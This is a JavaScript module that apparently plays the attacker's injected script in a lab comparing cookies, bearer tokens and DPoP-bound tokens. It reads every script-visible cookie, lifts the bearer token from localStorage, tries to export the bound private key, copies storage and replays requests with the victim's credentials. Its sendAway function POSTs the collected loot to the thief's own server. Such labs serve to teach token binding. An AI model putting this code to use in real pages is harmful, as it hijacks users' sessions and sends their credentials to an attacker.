// @ts-check
// The script of a thief in the page of the owner. It knows the names of what it looks for, and nothing that the page
// keeps in its variables.

import { makeKeys, prove } from "./dpop.js";
import { NAME, readBound } from "./storage.js";

/** @typedef {{ cookies?: [string, string][], authorization?: string, proof?: string }} Loot */

/** Every cookie that a script can read. @returns {Promise<[string, string][]>} */
export async function readCookies() {
  const pairs = document.cookie.split("; ").filter(Boolean);
  /** @type {[string, string][]} */
  const read = pairs.map((pair) => [pair.split("=", 1)[0] ?? "", pair.slice(pair.indexOf("=") + 1)]);
  if (!("cookieStore" in window)) return read;
  const found = /** @type {{ name: string, value: string }[]} */ (
    await /** @type {any} */ (window).cookieStore.getAll().catch(() => [])
  );
  const others = found.filter(({ name }) => read.every(([known]) => known !== name));
  return [...read, ...others.map(({ name, value }) => /** @type {[string, string]} */ ([name, value]))];
}

/** The bearer token of the page. */
export function readToken() {
  return localStorage.getItem(NAME);
}

/** The bound token of the page, and what becomes of an attempt to export its key. */
export async function readBoundToken() {
  const bound = await readBound();
  if (!bound) return null;
  const key = await crypto.subtle.exportKey("jwk", bound.keys.privateKey).catch((/** @type {Error} */ error) => error);
  return { token: bound.token, key };
}

/** What a copy of the storage holds elsewhere: a key cannot be written down. */
export async function copyStorage() {
  const bound = "indexedDB" in window ? await readBound().catch(() => undefined) : undefined;
  /** @type {{ local: Record<string, string>, bound?: { token: string, keys: Record<string, object> } }} */
  const copy = JSON.parse(JSON.stringify({ local: localStorage, bound }));
  return copy;
}

/** A proof by a key of the thief's. @param {string} url @param {string} token @param {string | null} [nonce] */
export async function proveWithOwnKey(url, token, nonce) {
  return prove(await makeKeys(), { method: "GET", url, token, nonce });
}

/** A request in the page, with the cookies that the browser adds. @param {string} url */
export async function callWithCookies(url) {
  return (await fetch(url, { cache: "no-store" })).json();
}

/** A request in the page, with the token that is found there. @param {string} url */
export async function callWithToken(url) {
  return fetch(url, { headers: { Authorization: `Bearer ${readToken()}` }, cache: "no-store" });
}

/**
 * A request in the page, signed with the key that is found there.
 * @param {string} url @param {string | null} [nonce]
 */
export async function callWithBoundToken(url, nonce) {
  const bound = await readBound();
  if (!bound) throw new Error("The page has no bound token.");
  const proof = await prove(bound.keys, { method: "GET", url, token: bound.token, nonce });
  return fetch(url, { headers: { Authorization: `DPoP ${bound.token}`, DPoP: proof }, cache: "no-store" });
}

/**
 * Sends what was found to the thief's own server, which uses it.
 * @param {string} thief @param {string} drill @param {Loot} loot
 */
export async function sendAway(thief, drill, loot) {
  const url = `${thief}/lab/theft/steal/${drill}?from=loot`;
  return (await fetch(url, { method: "POST", body: JSON.stringify(loot) })).json();
}
